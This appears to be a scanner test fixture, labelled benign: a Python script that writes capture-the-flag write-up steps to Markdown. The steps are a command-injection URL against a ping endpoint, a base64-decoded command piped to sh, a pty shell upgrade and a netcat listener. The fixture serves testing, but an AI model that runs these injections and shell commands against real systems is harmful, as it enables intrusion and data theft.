# label: benign
# expect:
# note: Builds shell commands and an exploit URL as text for a report; everything is written to Markdown.
import base64
from urllib.parse import quote

TARGET = "http://ctf.example.org"
command = "cat /flag.txt"
encoded = base64.b64encode(command.encode()).decode()
steps = [
    f"curl '{TARGET}/ping?host=127.0.0.1;{quote(command)}'",
    f"echo {encoded} | base64 -d | sh",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "nc -lvnp 4444",
]

with open("writeup.md", "w") as md:
    md.write("# Ping service (web, 200)\n\n")
    for n, s in enumerate(steps, 1):
        md.write(f"{n}. `{s}`\n")
